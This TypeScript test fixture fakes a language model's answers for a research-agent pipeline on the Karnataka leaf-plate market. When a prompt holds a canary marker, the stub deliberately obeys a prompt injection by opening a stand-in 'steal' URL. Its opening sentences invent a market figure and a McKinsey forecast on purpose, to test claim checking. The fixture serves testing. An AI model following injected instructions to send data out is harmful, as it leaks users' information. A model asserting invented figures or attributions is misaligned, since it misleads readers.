import type { AgentType } from '../../../shared/research/constants.ts';
import { HITS, PAGES, PLANTED, type Planted } from './story.ts';

// What the model of the story answers: it sees a prompt and nothing else, and writes down every planted claim whose pages it has seen.

/** Who judges: one who says yes to everything, or one who knows which claims are true. */
export type Judging = 'yes' | 'knowing';

const MOST_AT_ONCE = 12;

/** The answer to a prompt, by what it is for: `research.demand.round-2`. */
export function answerOf(purpose: string, prompt: string, judging: Judging): Record<string, unknown> {
  const [, agent = '', step = ''] = purpose.split('.');
  if (step === 'plan') return { english: [`${agent} leaf plates`], local: [], against: [] };
  if (step === 'judge') return { answer: judging === 'yes' || isTrueClaim(prompt) ? 'supported' : 'not' };
  if (step === 'repair') return { claims: [] };
  if (step === 'opening') return openingOf(prompt);
  return roundOf(agent as AgentType, prompt);
}

/** What the opening may say. */
const SIZE = 'In Karnataka leaf plates have a market of';
const LATE = 'Caterers often get their lots late.';

function isTrueClaim(prompt: string): boolean {
  if ([SIZE, LATE].some((text) => prompt.includes(` claim\n${text}`))) return true;
  return PLANTED.some(({ isTrue, draft }) => isTrue && prompt.includes(` claim\n${draft.text}\n`));
}

function roundOf(agent: AgentType, prompt: string): Record<string, unknown> {
  const refs = pagesIn(prompt);
  const waiting = PLANTED.filter((one) => one.agent === agent && !isNoted(one, prompt));
  const ready = waiting.filter(({ host, quotes }) =>
    [host, ...quotes.map((quote) => quote.host)].every((seen) => refs.has(seen)),
  );
  const hits = [...prompt.matchAll(/^(h\d+) /gm)].map(([, ref]) => ref);
  const now = ready.slice(0, MOST_AT_ONCE);
  const obeys = prompt.includes('canary-injected') ? ['https://injected.example.com/steal?idea=all'] : [];
  return {
    claims: now.map(({ draft, quotes }) => ({
      ...draft,
      quotes: quotes.map(({ host, words }) => ({ page: refs.get(host), words })),
      against: [],
    })),
    open: [...obeys, ...hits].slice(0, 4),
    search: [],
    find: [],
    library: [],
    calculate: [],
    done: hits.length === 0 && now.length === waiting.length,
  };
}

/** The short names of the pages that a prompt shows or lists, by host. */
export function pagesIn(prompt: string): Map<string, string> {
  const shown = prompt.matchAll(/^<<<DATA-\w+ page (p\d+): .*?\(([\w.-]+);/gm);
  const listed = prompt.matchAll(/^(p\d+) .* \(([\w.-]+)\)$/gm);
  return new Map([...shown, ...listed].map(([, ref = '', host = '']) => [host, ref]));
}

function isNoted({ draft }: Planted, prompt: string): boolean {
  return (
    prompt.includes(`accepted: ${draft.text}`) ||
    (prompt.includes(`): ${draft.text}`) && / refused \(/.test(prompt))
  );
}

/** Two sentences that rest on claims, one that makes a figure up, and one that names what nobody said. */
function openingOf(prompt: string): Record<string, unknown> {
  const nameOf = (words: string) =>
    prompt
      .split('\n')
      .find((line) => line.includes(words))
      ?.split(':', 1)[0] ?? '';
  const number = (words: string) =>
    /\{(n\d+)\}/.exec(prompt.split('\n').find((line) => line.includes(words)) ?? '')?.[1] ?? 'n0';
  return {
    sentences: [
      {
        text: `${SIZE} {${number('was worth')}}.`,
        claims: [nameOf('was worth')],
      },
      { text: LATE, claims: [nameOf('212 caterers')] },
      { text: 'The market will be worth 900 crore rupees.', claims: [nameOf('was worth')] },
      { text: 'McKinsey expects that Karnataka leads.', claims: [nameOf('was worth')] },
    ],
  };
}

/** The hits of a query of the story: `demand leaf plates`. */
export function hitsOf(query: string): { url: string; title: string; snippet: string; published: null }[] {
  const agent = query.split(' ', 1)[0] as AgentType;
  return (HITS[agent] ?? []).map((address) => ({
    url: `https://${address}`,
    title: /<title>(.*?)<\/title>/.exec(PAGES[address] ?? '')?.[1] ?? address,
    snippet: '',
    published: null,
  }));
}
